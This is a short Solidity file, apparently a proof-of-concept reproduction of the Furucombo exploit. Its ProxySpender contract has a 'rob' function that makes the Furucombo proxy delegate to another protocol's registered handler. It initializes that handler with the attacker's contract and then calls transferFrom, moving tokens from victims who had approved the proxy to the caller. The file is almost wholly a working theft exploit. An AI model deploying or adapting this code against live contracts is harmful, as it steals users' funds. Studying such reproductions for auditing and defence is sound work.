// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IProxy {
    function batchExec(address[] calldata tos, bytes32[] calldata configs, bytes[] calldata datas) external payable;
}

/// Furucombo: has its proxy delegate to a registered proxy of another protocol, whose storage, being Furucombo's, is
/// empty there: so that one can be initialized with code of the attacker's, which then runs as Furucombo.
contract ProxySpender {
    function rob(address proxy, address handler, address token, address victim, uint256 amount) external {
        address[] memory tos = new address[](2);
        bytes[] memory datas = new bytes[](2);
        (tos[0], tos[1]) = (handler, handler);
        datas[0] = abi.encodeWithSignature("initialize(address,bytes)", address(this), "");
        datas[1] = abi.encodeCall(this.spend, (token, victim, msg.sender, amount));
        IProxy(proxy).batchExec(tos, new bytes32[](2), datas);
    }

    function spend(address token, address victim, address to, uint256 amount) external payable {
        (bool done,) =
            token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", victim, to, amount));
        require(done, "not spent");
    }
}
